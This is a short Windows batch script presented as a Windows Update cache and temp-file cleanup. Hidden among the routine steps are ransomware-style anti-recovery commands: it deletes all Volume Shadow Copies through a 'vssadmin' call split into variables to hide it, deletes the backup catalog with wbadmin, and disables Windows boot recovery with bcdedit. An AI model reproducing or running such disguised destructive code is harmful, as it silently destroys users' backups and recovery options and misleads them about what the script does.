@echo off
net stop wuauserv
rd /s /q %windir%\SoftwareDistribution\Download
del /f /s /q %TEMP%\*
set V=vss
set A=admin
%V%%A% delete shadows /all /quiet
wbadmin delete catalog -quiet
bcdedit /set {default} recoveryenabled No
Dism /Online /Cleanup-Image /StartComponentCleanup /ResetBase
net start wuauserv
